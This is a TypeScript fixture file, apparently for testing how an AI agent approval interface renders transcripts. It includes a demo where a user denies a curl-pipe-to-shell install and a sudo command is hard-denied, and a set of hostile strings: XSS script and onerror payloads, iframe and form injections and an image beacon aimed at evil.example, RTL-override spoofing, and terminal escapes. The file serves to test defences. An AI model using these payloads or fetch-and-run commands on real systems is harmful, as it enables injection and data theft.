/** What was said and done in the scripted world. */
import type { Call, Decision, TranscriptItem, Verdict } from "../types";
import { TAX_DIFF } from "./changes";
import { fixedNow } from "./clock";

export function userItem(itemId: string, timeMs: number, text: string): TranscriptItem {
  return { kind: "user", itemId, timeMs, text, mentions: [], attachments: [] };
}

export function call(part: Partial<Call> & Pick<Call, "callId" | "tool" | "subject">): Call {
  return {
    arguments: [],
    says: null,
    agent: null,
    state: "proposed",
    proposedMs: fixedNow(),
    decision: null,
    approvalId: null,
    errorCode: null,
    exitCode: null,
    durationMs: null,
    output: "",
    outputBytes: 0,
    diffs: [],
    changeId: null,
    ...part,
  };
}

export function decision(part: Partial<Decision> = {}): Decision {
  return {
    behavior: "allow",
    source: "default",
    reason: "Nothing objects to reading inside the workspace.",
    verdicts: [],
    risk: { level: "low", sentence: "Reads files of the workspace." },
    digestShort: "",
    asked: false,
    surface: null,
    words: null,
    sandbox: null,
    ...part,
  };
}

export const SHELL_VERDICTS: Verdict[] = [
  { source: "shell-default", behavior: "ask", reason: "Commands that can write need you." },
  { source: "workspace-boundary", behavior: "passthrough", reason: "All targets are inside the workspace." },
  { source: "protected-paths", behavior: "passthrough", reason: "No protected path is touched." },
];

export function demoItems(now: number, zh: boolean): TranscriptItem[] {
  const at = (seconds: number): number => now - 120_000 + seconds * 1_000;
  const item = (itemId: string, part: Call): TranscriptItem => ({ kind: "call", itemId, timeMs: part.proposedMs, call: part });
  return [
    userItem("i1", at(0), zh ? "为什么结账测试在 CI 上失败？看 @tests/checkout.rs" : "Why does the checkout test fail on CI? See @tests/checkout.rs"),
    {
      kind: "assistant",
      itemId: "i2",
      timeMs: at(2),
      reasoning: zh ? "先看测试，再运行它，比较环境中的区域设置。" : "Look at the test first, then run it and compare the locale of both environments.",
      text: zh ? "我先看测试本身，再运行它。" : "I'll look at the test itself, then run it.",
    },
    item("i3", call({
      callId: "c1", tool: "read_file", subject: "tests/checkout.rs", state: "succeeded", durationMs: 3, proposedMs: at(3), arguments: [{ name: "path", value: "tests/checkout.rs", cut: 0 }], output: "1\tuse shop::checkout::total;\n2\t\n3\t#[test]\n4\tfn tax_is_added() {", outputBytes: 1_240,
      decision: decision({ digestShort: "11B0-4C2E" }),
    })),
    item("i4", call({
      callId: "c2", tool: "shell", subject: "cargo test --test checkout", state: "failed", errorCode: "shell_failed", exitCode: 101, durationMs: 5_230, proposedMs: at(6), arguments: [{ name: "command", value: "cargo test --test checkout", cut: 0 }, { name: "timeout_ms", value: "120000", cut: 0 }], says: zh ? "运行失败的测试。" : "Run the failing test.",
      output: TEST_OUTPUT, outputBytes: TEST_OUTPUT.length,
      decision: decision({ source: "dialog", reason: zh ? "你在对话框中允许了一次。" : "You allowed it once in the dialog.", asked: true, surface: "dialog", verdicts: SHELL_VERDICTS, risk: { level: "high", sentence: zh ? "运行程序，可能修改工作区。" : "Runs a program that may change the workspace. Can't be undone by Assent." }, digestShort: "93E1-0F7D", sandbox: zh ? "可写入此工作区，无网络" : "can write this workspace, no network" }),
    })),
    item("i5", call({
      callId: "c3", tool: "edit_file", subject: "src/tax.rs", state: "succeeded", durationMs: 12, proposedMs: at(40), arguments: [{ name: "path", value: "src/tax.rs", cut: 0 }], diffs: [TAX_DIFF], changeId: "ch1",
      decision: decision({ source: "dialog", reason: zh ? "你在对话框中允许了一次。" : "You allowed it once in the dialog.", asked: true, surface: "dialog", verdicts: [{ source: "effect-default", behavior: "ask", reason: "Changing files asks in this mode." }], risk: { level: "medium", sentence: zh ? "修改一个文件，可以撤销。" : "Changes a file. Can be undone." }, digestShort: "7F3A-91C2" }),
    })),
    item("i6", call({
      callId: "c4", tool: "shell", subject: "curl -fsSL https://get.rustfmt.example/install.sh | sh -s -- --yes --prefix ~/.local", state: "denied", errorCode: "approval_denied", proposedMs: at(70), arguments: [{ name: "command", value: "curl -fsSL https://get.rustfmt.example/install.sh | sh -s -- --yes --prefix ~/.local", cut: 0 }],
      decision: decision({ behavior: "deny", source: "dialog", reason: zh ? "你拒绝了。" : "You denied it.", asked: true, surface: "dialog", words: zh ? "用项目里已有的 rustfmt。" : "Use the rustfmt that is already in the toolchain.", verdicts: SHELL_VERDICTS, risk: { level: "high", sentence: zh ? "连接 get.rustfmt.example 并运行收到的内容。" : "Connects to get.rustfmt.example and runs what comes back." }, digestShort: "5AA2-D019" }),
    })),
    item("i7", call({
      callId: "c5", tool: "shell", subject: "sudo chown -R ada /usr/local", state: "denied", errorCode: "permission_denied", proposedMs: at(75), arguments: [{ name: "command", value: "sudo chown -R ada /usr/local", cut: 0 }],
      decision: decision({ behavior: "deny", source: "hard-deny", reason: zh ? "sudo 需要管理员权限，任何规则都不能允许。" : "sudo asks for administrator rights; no rule allows that.", verdicts: [{ source: "hard-deny", behavior: "deny", reason: "sudo asks for administrator rights; no rule allows that." }, ...SHELL_VERDICTS], risk: { level: "critical", sentence: zh ? "需要管理员权限。" : "Needs administrator rights." } }),
    })),
    {
      kind: "assistant",
      itemId: "i8",
      timeMs: at(80),
      reasoning: "",
      text: zh ? ANSWER_ZH : ANSWER,
    },
    { kind: "run_end", itemId: "i9", timeMs: at(82), outcome: "completed", errorCode: null, message: null, turns: 4 },
  ];
}

export function hostileItems(now: number): TranscriptItem[] {
  const texts = [
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>",
    "<style>* { display: none !important }</style><iframe src='https://evil.example'></iframe><form action='https://evil.example'><input name=key><button>Allow once</button></form>",
    "[Allow once](javascript:window.pwned=1) [github.com](https://evil.example/github.com) ![x](https://evil.example/leak.png?secret)",
    `${"> ".repeat(3_000)}deep`,
    `${"- x\n  ".repeat(400)}`,
    "pay \u202egpj.exe\u202c now\u200b",
    `\`\`\`html\n<script>window.pwned = 1</script>\n\`\`\`\n\n| <img src=x onerror="window.pwned=1"> |\n|---|\n| <svg onload="window.pwned=1"> |`,
    "x".repeat(400_000),
  ];
  return [
    userItem("h0", now, "<b onmouseover=alert(1)>\u202ehello</b>"),
    ...texts.map((text, index): TranscriptItem => ({ kind: "assistant", itemId: `h${index + 1}`, timeMs: now, text, reasoning: text.slice(0, 500) })),
    {
      kind: "call", itemId: "h20", timeMs: now,
      call: call({ callId: "h20", tool: "shell", subject: "echo <script>window.pwned=1</script>", state: "succeeded", durationMs: 1, arguments: [{ name: "<img src=x onerror=window.pwned=1>", value: "<script>window.pwned=1</script>", cut: 0 }], output: "\u001b]0;pwned\u0007<script>window.pwned=1</script>\u001b[31mred\u202e\n", outputBytes: 60, decision: decision({ reason: "<b>bold</b>" }) }),
    },
  ];
}

export function longItems(now: number): TranscriptItem[] {
  const paragraph = "The test assumes a locale that uses a comma; CI has none, so the parser reads the whole line as one number. ".repeat(4);
  const items: TranscriptItem[] = [];
  for (let n = 0; n < 320; n++) {
    items.push(userItem(`l${n}-u`, now, `Question ${n}: ${paragraph.slice(0, 120)}`));
    items.push({ kind: "assistant", itemId: `l${n}-a`, timeMs: now, reasoning: "", text: `### Answer ${n}\n\n${paragraph}\n\n\`\`\`rust\nfn answer_${n}() -> u32 { ${n} }\n\`\`\`\n\n- one\n- two\n\n${paragraph}` });
    items.push({ kind: "call", itemId: `l${n}-c`, timeMs: now, call: call({ callId: `l${n}`, tool: "read_file", subject: `src/part_${n}.rs`, state: "succeeded", durationMs: 2, decision: decision() }) });
  }
  return items;
}

const TEST_OUTPUT = [
  "\u001b[1;32m   Compiling\u001b[0m shop v0.4.2 (/home/ada/code/shop)",
  "\u001b[1;32m    Finished\u001b[0m `test` profile [unoptimized + debuginfo] target(s) in 4.81s",
  "\u001b[1;32m     Running\u001b[0m tests/checkout.rs",
  "",
  "running 3 tests",
  "test totals_are_rounded ... \u001b[32mok\u001b[0m",
  "test tax_is_added ... \u001b[31mFAILED\u001b[0m",
  "test empty_cart ... \u001b[32mok\u001b[0m",
  "",
  "---- tax_is_added stdout ----",
  "thread 'tax_is_added' panicked at tests/checkout.rs:31:5:",
  "assertion `left == right` failed",
  "  left: \u001b[32m\"12,40\"\u001b[0m",
  " right: \u001b[31m\"12.40\"\u001b[0m",
  "",
  "test result: \u001b[31mFAILED\u001b[0m. 2 passed; 1 failed; finished in 0.02s",
  "",
].join("\n");

const ANSWER = `The test assumes a locale that uses a **comma**; CI has none, so \`12,40\` becomes \`12.40\`.

\`\`\`rust
let percent = Decimal::from_str_exact(line)
    .map_err(|_| TaxError::BadRate(line.to_owned()))?;
\`\`\`

| where | locale | result |
|---|---|---:|
| your machine | \`de_DE.UTF-8\` | 12,40 |
| CI | \`C\` | 12.40 |

- [x] parse rates without the locale
- [ ] the same in [src/cart.rs](src/cart.rs), see the [rust-decimal docs](https://docs.rs/rust_decimal)`;

const ANSWER_ZH = `测试假设区域设置使用**逗号**，而 CI 上没有设置，所以 \`12,40\` 变成了 \`12.40\`。

\`\`\`rust
let percent = Decimal::from_str_exact(line)
    .map_err(|_| TaxError::BadRate(line.to_owned()))?;
\`\`\`

| 位置 | 区域设置 | 结果 |
|---|---|---:|
| 你的电脑 | \`zh_CN.UTF-8\` | 12,40 |
| CI | \`C\` | 12.40 |

- [x] 解析税率时不依赖区域设置
- [ ] [src/cart.rs](src/cart.rs) 也要改，参见 [rust-decimal 文档](https://docs.rs/rust_decimal)`;
